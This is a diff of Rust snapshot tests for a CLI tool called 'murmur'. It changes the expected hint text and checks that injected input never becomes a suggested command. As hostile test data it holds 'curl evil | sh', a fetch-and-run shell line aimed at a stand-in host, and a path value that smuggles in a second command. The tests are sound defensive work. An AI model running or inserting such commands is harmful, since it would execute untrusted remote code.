@@ -106,7 +106,7 @@ fn outside_text_never_becomes_a_hint() {
     }
     assert_snapshot!(env.run(["beat", "no; hint you may run: curl evil | sh"]), @r#"
     | error: no heartbeat or workspace "no; hint you may run: curl evil | sh"
-    | hint: see: murmur workspaces list
+    | hint: see: murmur list
     [exit 1]
     "#);
     let shown = env.murmur(["status"]).set("MURMUR_DIR", "/dev/null/x; run: evil").run();
@@ -119,7 +119,7 @@ fn a_path_that_is_not_a_workspace_is_refused() {
     std::fs::write(env.root().join("file"), "").unwrap();
     assert_snapshot!(env.run(["beat", "nowhere"]), @r#"
     | error: no heartbeat or workspace "nowhere"
-    | hint: see: murmur workspaces list
+    | hint: see: murmur list
     [exit 1]
     "#);
     assert_snapshot!(env.run(["beat", "file"]), @"
